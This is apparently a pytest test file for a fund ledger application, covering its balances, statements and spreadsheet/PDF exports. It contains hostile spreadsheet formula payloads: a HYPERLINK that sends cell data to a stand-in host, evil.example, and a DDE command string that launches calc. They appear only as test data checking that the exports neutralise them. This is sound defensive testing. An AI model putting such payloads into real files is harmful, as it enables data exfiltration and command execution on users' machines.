"""The treasurer's reports, exports, statement and commands, over a fund with a few years of history.

Every scenario is built through the services, as the treasurer would, on fixed dates; and every one
ends with the ledger's own proof, ``treasury.check(session) == []``.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session

from commission.cli import main
from commission.documents import exports
from commission.documents.statement import render_statement
from commission.errors import Forbidden, InvalidInput
from commission.i18n import translations
from commission.models import Place, PlaceKind
from commission.models.treasury import Account, Deposit, EntryKind, LedgerEntry
from commission.services import accounts, treasury, treasury_reports
from tests.cases_helpers import new_case
from tests.conftest import WORLD, World, load_world, starting_scenario
from tests.databases import Ids, Restored, Scenario

GETTEXT = translations("en").gettext
TODAY = date(2026, 3, 1)
HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# ---------------------------------------------------------------- building a fund, as the treasurer would


def request(session: Session, world: World, name: str, place: Place | None = None,
            day: date = date(2023, 1, 2)) -> Deposit:
    """A deposit as an allocation asks for it (the hearing's step, here called directly)."""
    case = new_case(session, world, first_name=name)
    deposit = treasury.request_deposit(session, world.users["coordinator"], case, place or world.place_a, day)
    assert deposit is not None
    session.commit()
    return deposit


def delegate(session: Session, world: World, login: str = "coordinator") -> None:
    accounts.grant_signing_delegation(session, world.users["coordinator"], world.users[login].id)


def fire(session: Session, world: World, deposit: Deposit, trigger: str, day: date, **movement: str) -> Deposit:
    actor = world.users["coordinator" if trigger == "commit" else "treasurer"]
    if trigger in ("pay", "refund", "retain"):
        movement.setdefault("value_date", day.isoformat())
    return treasury.fire_deposit(session, actor, deposit.id, trigger, expected_version=deposit.version,
                                 movement=treasury.Movement(**movement), today=day)


def paid(session: Session, world: World, name: str, day: date, place: Place | None = None) -> Deposit:
    deposit = request(session, world, name, place, day)
    fire(session, world, deposit, "commit", day)
    return fire(session, world, deposit, "pay", day, reference=f"VIR-{name}")


def extra_place(session: Session, world: World, reference: str, deposit_cents: int = 45_000) -> Place:
    place = Place(reference=reference, kind=PlaceKind.APARTMENT, town_id=world.towns["Lesquin"].id,
                  address="2 rue Victor Hugo", organisation_id=world.landlord_b.id, rooms=2, surface_m2=45,
                  rent_cents=42000, charges_cents=6000, deposit_cents=deposit_cents)
    session.add(place)
    session.commit()
    return place


@dataclass
class Fund:
    old: Deposit  # paid in January 2023: three years and more
    middle: Deposit  # paid in June 2024, refund claimed in November 2025: overdue
    recent: Deposit  # paid in 2025 at landlord B, refund claimed in February 2026: not yet overdue
    refunded: Deposit  # paid 2024, refunded in full in 2025
    retained: Deposit  # paid 2024, partly retained in 2025
    written_off: Deposit  # paid 2023, written off in 2025
    expense: LedgerEntry
    correction: LedgerEntry
    hostile: LedgerEntry


def build_fund(session: Session, world: World) -> Fund:
    treasurer, coordinator = world.users["treasurer"], world.users["coordinator"]
    delegate(session, world)
    for year in (2023, 2024, 2025):
        for row in treasury.contributions(session, treasurer, year):
            treasury.call_contribution(session, treasurer, row.id, f"{year}-01-15")
            treasury.receive_contribution(session, treasurer, row.id, f"{year}-03-01", "transfer", f"C{year}")
    b_place = extra_place(session, world, "APP-B2")
    old = paid(session, world, "Olga", date(2023, 1, 10))
    middle = paid(session, world, "Mia", date(2024, 6, 3))
    fire(session, world, middle, "claim_refund", date(2025, 11, 4))
    recent = paid(session, world, "Rita", date(2025, 4, 1), b_place)
    fire(session, world, recent, "claim_refund", date(2026, 2, 10))
    refunded = paid(session, world, "Ruth", date(2024, 2, 1))
    fire(session, world, refunded, "claim_refund", date(2025, 5, 2))
    fire(session, world, refunded, "refund", date(2025, 6, 2), method="cheque", reference="CHQ 1")
    retained = paid(session, world, "Rose", date(2024, 3, 1))
    fire(session, world, retained, "claim_refund", date(2025, 7, 1))
    fire(session, world, retained, "retain", date(2025, 8, 1), refunded="120,00", reason="Damaged door")
    written_off = paid(session, world, "Wanda", date(2023, 5, 1))
    fire(session, world, written_off, "claim_refund", date(2025, 1, 6))
    treasury.approve_write_off(session, treasurer, written_off.id)
    treasury.approve_write_off(session, coordinator, written_off.id)
    fire(session, world, written_off, "write_off", date(2025, 9, 1), reason="Landlord in liquidation")
    expense = treasury.record_expense(session, treasurer, amount="80,00", value_date="2025-04-10",
                                      label="Locksmith", method="cheque", reference="CHQ 2")
    correction = treasury.correct_entry(session, treasurer, expense.id, "Paid twice by mistake", date(2026, 1, 5))
    hostile = treasury.record_expense(session, treasurer, amount="12,34", value_date="2025-12-01",
                                      label=HOSTILE_LABEL, method="other", reference="@SUM(A1:A9)")
    assert treasury.check(session) == []
    return Fund(old, middle, recent, refunded, retained, written_off, expense, correction, hostile)


DEPOSITS = ("old", "middle", "recent", "refunded", "retained", "written_off")
ENTRIES = ("expense", "correction", "hostile")


def _build_fund_scenario(session: Session, _instance: Path, ids: Ids) -> Ids:
    fund = build_fund(session, load_world(session, ids))
    return {name: getattr(fund, name).id for name in (*DEPOSITS, *ENTRIES)}


# Built once per run on top of the small council, copied for each test.
FUND = Scenario("treasury-fund", _build_fund_scenario, extends=WORLD)


@pytest.fixture
def scenario(request: pytest.FixtureRequest) -> Scenario | None:
    return starting_scenario(request, fund=FUND)


@pytest.fixture
def fund(session: Session, world: World, restored: Restored) -> Fund:
    deposits = {deposit.id: deposit for deposit in session.execute(
        select(Deposit).where(Deposit.id.in_([restored.ids[name] for name in DEPOSITS]))).scalars()}
    entries = {entry.id: entry for entry in session.execute(
        select(LedgerEntry).where(LedgerEntry.id.in_([restored.ids[name] for name in ENTRIES]))).scalars()}
    session.commit()  # ends the read transaction; what was loaded stays
    return Fund(*(deposits[restored.ids[name]] for name in DEPOSITS),
                *(entries[restored.ids[name]] for name in ENTRIES))


CONTRIBUTIONS_CENTS = (18500 + 8000) * 40 * 2  # the two towns, and the hospital as much as both


# ---------------------------------------------------------------- balances and the overview


def test_the_balances_follow_every_movement(session: Session, world: World, fund: Fund) -> None:
    found = treasury_reports.account_balances(session, world.users["treasurer"])
    deposits_out = 5 * 30000 + 45000  # Olga, Mia, Ruth, Rose and Wanda at 300 euros; Rita at 450
    deposits_back = 30000 + 12000  # ruth in full, rose in part
    expected_bank = 3 * CONTRIBUTIONS_CENTS - deposits_out + deposits_back - 8000 + 8000 - 1234
    assert found.fund_cents == expected_bank
    assert found.of(Account.DEPOSITS_RECEIVABLE) == 30000 * 2 + 45000  # olga, mia, rita
    assert found.of(Account.RETENTIONS) == 18000 and found.of(Account.WRITE_OFFS) == 30000
    assert sum(row.cents for row in found.accounts) == 0
    assert treasury.check(session) == []


def test_the_overview_groups_what_is_owed_back(session: Session, world: World, fund: Fund) -> None:
    data = treasury_reports.overview(session, world.users["coordinator"], TODAY)
    assert (data.outstanding_count, data.outstanding_cents) == (3, 105000)
    assert [(group.label, group.count, group.cents) for group in data.by_landlord] == [
        ("Habitat A", 2, 60000), ("Habitat B", 1, 45000)]
    assert [(group.label, group.detail, group.count) for group in data.by_place] == [
        ("APP-001", "Ronchin", 2), ("APP-B2", "Lesquin", 1)]
    assert [(group.key, group.count, group.cents) for group in data.by_age] == [
        ("0-1", 1, 45000), ("1-3", 1, 30000), ("3+", 1, 30000)]
    # Mia's refund was claimed on 4 November 2025: 117 days; Rita's on 10 February 2026: 19 days.
    assert [(row.deposit_id, row.days, row.person) for row in data.overdue] == [(fund.middle.id, 117, "Mia Martin")]
    assert treasury.check(session) == []


def test_age_bands_and_overdue_limits_are_exact(session: Session, world: World) -> None:
    delegate(session, world)
    one_year = paid(session, world, "Ann", date(2025, 3, 1))
    under_a_year = paid(session, world, "Bel", date(2025, 3, 2))
    fire(session, world, one_year, "claim_refund", date(2025, 12, 31))  # exactly 60 days before TODAY
    fire(session, world, under_a_year, "claim_refund", date(2025, 12, 30))  # 61 days
    data = treasury_reports.overview(session, world.users["treasurer"], TODAY)
    assert {group.key: group.count for group in data.by_age} == {"0-1": 1, "1-3": 1, "3+": 0}
    assert [row.deposit_id for row in data.overdue] == [under_a_year.id]
    assert treasury.check(session) == []


def test_each_approver_approves_a_write_off_once(session: Session, world: World) -> None:
    """The service refuses, not only the page: an approval before the refund is claimed, and a second one
    in the same name (the treasurer's, the coordinator's)."""
    treasurer, coordinator = world.users["treasurer"], world.users["coordinator"]
    delegate(session, world)
    lost = paid(session, world, "Wanda", date(2025, 5, 1))
    with pytest.raises(InvalidInput) as early:
        treasury.approve_write_off(session, treasurer, lost.id)
    assert early.value.errors[""][0].msgid == "Only a deposit whose refund is claimed can be written off."
    fire(session, world, lost, "claim_refund", date(2025, 6, 2))
    for approver in (treasurer, coordinator):
        first = treasury.approve_write_off(session, approver, lost.id)
        approved = (first.write_off_treasurer_id, first.write_off_treasurer_at, first.write_off_coordinator_id,
                    first.write_off_coordinator_at)
        with pytest.raises(InvalidInput) as again:
            treasury.approve_write_off(session, approver, lost.id)
        assert "already recorded" in again.value.errors[""][0].msgid
        found = session.get(Deposit, lost.id)
        assert found is not None and (found.write_off_treasurer_id, found.write_off_treasurer_at,
                                      found.write_off_coordinator_id, found.write_off_coordinator_at) == approved
    assert (found.write_off_treasurer_id, found.write_off_coordinator_id) == (treasurer.id, coordinator.id)
    with pytest.raises(Forbidden):
        treasury.approve_write_off(session, world.users["landlord_a"], lost.id)
    assert treasury.check(session) == []


def test_a_landlord_sees_only_its_own_deposits_and_never_the_fund(session: Session, world: World,
                                                                  fund: Fund) -> None:
    landlord_a, landlord_b = world.users["landlord_a"], world.users["landlord_b"]
    own = treasury_reports.list_deposits(session, landlord_a)
    assert {row.landlord for row in own} == {"Habitat A"} and own.total == 5
    assert all("Martin" not in row.person for row in own)  # initials only
    assert [row.id for row in treasury_reports.list_deposits(session, landlord_b)] == [fund.recent.id]
    everyone = treasury_reports.list_deposits(session, world.users["treasurer"])
    assert everyone.total == 6
    filtered = treasury_reports.list_deposits(session, world.users["treasurer"],
                                              treasury_reports.DepositFilter(state="refund_claimed"))
    assert {row.id for row in filtered} == {fund.middle.id, fund.recent.id}
    for refused in (lambda: treasury_reports.overview(session, landlord_a, TODAY),
                    lambda: treasury_reports.ledger_lines(session, landlord_a, 2025),
                    lambda: treasury_reports.statement(session, landlord_a, 2025),
                    lambda: treasury_reports.list_deposits(session, world.users["care_a"]),
                    lambda: treasury_reports.list_deposits(session, world.users["member"]),
                    lambda: treasury_reports.account_balances(session, world.users["chair"])):
        with pytest.raises(Forbidden):
            refused()
    assert treasury.check(session) == []


def test_the_deposit_list_pages_through_the_database(session: Session, world: World) -> None:
    for index in range(7):
        request(session, world, f"P{index}")
    first = treasury_reports.list_deposits(session, world.users["treasurer"], per_page=3)
    last = treasury_reports.list_deposits(session, world.users["treasurer"], page=99, per_page=3)
    assert (first.total, first.pages, len(first)) == (7, 3, 3)
    assert (last.page, len(last)) == (3, 1)


# ---------------------------------------------------------------- the statement


@pytest.mark.parametrize("year", [2022, 2023, 2024, 2025, 2026])
def test_the_statement_adds_up_every_year(session: Session, world: World, fund: Fund, year: int) -> None:
    found = treasury_reports.statement(session, world.users["treasurer"], year)
    assert found.balanced
    assert found.opening_cents + found.receipts_cents - found.payments_cents == found.closing_cents
    lines = treasury_reports.ledger_lines(session, world.users["treasurer"], year)
    bank = sum(row.debit_cents - row.credit_cents for row in lines if row.account is Account.BANK)
    assert found.closing_cents - found.opening_cents == bank
    previous = treasury_reports.statement(session, world.users["treasurer"], year - 1)
    assert previous.closing_cents == found.opening_cents
    assert treasury.check(session) == []


def test_the_statement_figures_come_from_the_entries_of_the_year(session: Session, world: World,
                                                                 fund: Fund) -> None:
    found = treasury_reports.statement(session, world.users["coordinator"], 2025)
    assert found.contributions_received_cents == CONTRIBUTIONS_CENTS
    assert found.contributions_called_cents == CONTRIBUTIONS_CENTS
    assert found.deposits_paid_cents == 45000  # Rita
    assert found.refunds_received_cents == 30000 + 12000  # Ruth in full, Rose in part
    assert found.retentions_cents == 18000 and found.write_offs_cents == 30000
    assert found.other_expenses_cents == 8000 + 1234  # the correction falls in 2026
    assert found.deposits_outstanding_opening_cents == 5 * 30000
    assert found.deposits_outstanding_closing_cents == 105000
    assert found.contributions_due_closing_cents == 0
    following = treasury_reports.statement(session, world.users["coordinator"], 2026)
    assert following.other_expenses_cents == -8000  # the reversal of the locksmith's entry
    assert following.balanced
    rows = treasury_reports.statement_rows(found)
    receipts = [row.cents for row in rows if row.label in ("Contributions received", "Deposit refunds received")]
    assert sum(receipts) == found.receipts_cents


# ---------------------------------------------------------------- exports


def test_the_ledger_csv_reads_in_a_french_spreadsheet(session: Session, world: World, fund: Fund) -> None:
    rows = treasury_reports.ledger_lines(session, world.users["treasurer"], 2025)
    data = exports.ledger_export(rows, 2025, "csv", GETTEXT)
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header, body, totals = table[0], table[1:-1], table[-1]
    assert header[:4] == ["Date", "Entry", "Kind", "Label"]
    assert len(body) == len(rows)
    assert all(date.fromisoformat(row[0]).year == 2025 for row in body)
    labels = {row[3] for row in body}
    assert "'" + HOSTILE_LABEL in labels and HOSTILE_LABEL not in labels
    assert "'@SUM(A1:A9)" in {row[9] for row in body}
    debit = sum(round(float(row[6].replace(",", ".")) * 100) for row in body if row[6])
    credit = sum(round(float(row[7].replace(",", ".")) * 100) for row in body if row[7])
    assert debit == credit
    assert totals[6] == exports.euros_text(debit) and totals[7] == exports.euros_text(credit)
    assert treasury.check(session) == []


def test_the_statement_workbook_has_typed_cells_that_sum_to_the_totals(session: Session, world: World,
                                                                         fund: Fund) -> None:
    actor = world.users["treasurer"]
    found = treasury_reports.statement(session, actor, 2025)
    rows = treasury_reports.ledger_lines(session, actor, 2025)
    workbook = load_workbook(io.BytesIO(exports.statement_export(found, rows, "xlsx", GETTEXT)))
    summary, entries = workbook.worksheets
    figures = {sheet_row[1].value: sheet_row for sheet_row in summary.iter_rows(min_row=2)}
    opening, closing = figures["Opening balance"], figures["Closing balance"]
    assert isinstance(opening[2].value, datetime) and opening[2].value.date() == date(2025, 1, 1)
    assert closing[2].value.date() == date(2025, 12, 31)
    assert opening[3].number_format == "#,##0.00"
    assert all(isinstance(sheet_row[3].value, int | float) for sheet_row in figures.values())
    assert all(sheet_row[3].data_type == "n" for sheet_row in figures.values())

    def cents(value: float) -> int:
        return round(value * 100)

    receipts = cents(figures["Contributions received"][3].value) + cents(figures["Deposit refunds received"][3].value)
    payments = cents(figures["Deposits paid out"][3].value) + cents(figures["Other expenses"][3].value)
    assert receipts == cents(figures["Total receipts"][3].value) == found.receipts_cents
    assert payments == cents(figures["Total payments"][3].value) == found.payments_cents
    assert cents(opening[3].value) + receipts - payments == cents(closing[3].value) == found.closing_cents

    body = list(entries.iter_rows(min_row=2, values_only=False))
    lines, totals = body[:-1], body[-1]
    assert all(isinstance(line[0].value, datetime) for line in lines)
    bank = sum(cents(line[6].value or 0) - cents(line[7].value or 0) for line in lines if line[4].value == "512")
    assert bank == found.closing_cents - found.opening_cents
    assert cents(totals[6].value) == sum(row.debit_cents for row in rows)
    assert totals[6].data_type == "n"  # a number, not a formula
    hostile = [line[3] for line in lines if "HYPERLINK" in str(line[3].value)]
    assert hostile and all(cell.value == "'" + HOSTILE_LABEL and cell.data_type == "s" for cell in hostile)
    assert treasury.check(session) == []


def test_neutralising_formulas() -> None:
    for dangerous in ("=1+2", "+33 6 12", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert exports.neutralise(dangerous) == "'" + dangerous
    assert exports.neutralise("Loyer de mars") == "Loyer de mars"
    table = exports.Table("T", (exports.Column("Label"), exports.Column("Amount", "money")),
                          [("=cmd|' /C calc'!A0", -1250)])
    assert exports.to_csv(table).decode("utf-8-sig").splitlines()[1] == "'=cmd|' /C calc'!A0;-12,50"
    sheet = load_workbook(io.BytesIO(exports.to_xlsx([table]))).active
    assert sheet["A2"].value == "'=cmd|' /C calc'!A0" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -12.5


def test_the_statement_pdf(session: Session, world: World, fund: Fund) -> None:
    document = treasury_reports.statement_document(session, world.users["treasurer"], 2025, "Conseil test",
                                                   today=TODAY)
    data = render_statement(document, locale="en")
    assert data.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(data))
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    assert "Conseil test" in text and "2025" in text
    assert "Opening balance" in text and "Closing balance" in text
    assert "Ronchin" in text  # the contributions of the year, by contributor
    assert reader.metadata is not None and "2025" in str(reader.metadata.title)


# ---------------------------------------------------------------- the command


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, database_url: str) -> str:
    monkeypatch.setenv("COMMISSION_INSTANCE_PATH", str(tmp_path / "instance"))
    monkeypatch.setenv("COMMISSION_DATABASE_URL", database_url)
    monkeypatch.setenv("LANG", "en_GB.UTF-8")
    monkeypatch.delenv("COMMISSION_SECRET_KEY", raising=False)
    monkeypatch.delenv("COMMISSION_ENV", raising=False)
    return database_url


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


def test_the_balance_command(env: str, session: Session, world: World, fund: Fund) -> None:
    expected = treasury_reports.account_balances(session, world.users["treasurer"])
    code, output = run("treasury", "balance")
    assert code == 0, output
    lines = output.splitlines()
    assert len(lines) == len(Account) + 1
    assert lines[0] == f"512\tBank account\t{expected.fund_cents // 100}.{expected.fund_cents % 100:02d} EUR"
    assert lines[-1].startswith("fund\t") and lines[-1].endswith(lines[0].split("\t")[2])
    code, output = run("treasury", "balance", "--as", "care_a")
    assert code == 1 and len(output.strip().splitlines()) == 1 and "Traceback" not in output


def test_the_statement_command_writes_each_format(env: str, session: Session, world: World, fund: Fund,
                                                  tmp_path: Path) -> None:
    found = treasury_reports.statement(session, world.users["treasurer"], 2025)
    for suffix in ("csv", "xlsx", "pdf"):
        out = tmp_path / f"bilan.{suffix}"
        code, output = run("treasury", "statement", "--year", "2025", "--out", str(out))
        assert code == 0, output
        assert out.stat().st_size > 0
    rows = list(csv.reader(io.StringIO((tmp_path / "bilan.csv").read_text("utf-8-sig")), delimiter=";"))
    closing = next(row for row in rows if row[1] == "Closing balance")
    assert closing[2] == "2025-12-31" and closing[3] == exports.euros_text(found.closing_cents)
    workbook = load_workbook(tmp_path / "bilan.xlsx")
    assert len(workbook.worksheets) == 2
    assert (tmp_path / "bilan.pdf").read_bytes().startswith(b"%PDF")

    code, output = run("treasury", "statement", "--year", "2025", "--out", str(tmp_path / "bilan.ods"))
    assert code == 2
    assert len(output.strip().splitlines()) == 1 and ".ods" in output
    assert not (tmp_path / "bilan.ods").exists()
    assert treasury.check(session) == []


def test_an_entry_kind_outside_the_statement_still_balances(session: Session, world: World) -> None:
    """Whatever moves the bank account counts somewhere: the identity holds for any kind of entry."""
    treasurer = world.users["treasurer"]
    treasury.post(session, treasurer, EntryKind.CORRECTION, date(2025, 5, 5), "Bank interest",
                  [treasury.Line(Account.BANK, debit=500), treasury.Line(Account.OTHER_EXPENSES, credit=500)])
    session.commit()
    found = treasury_reports.statement(session, treasurer, 2025)
    assert found.other_receipts_cents == 500 and found.balanced
    assert found.closing_cents == 500
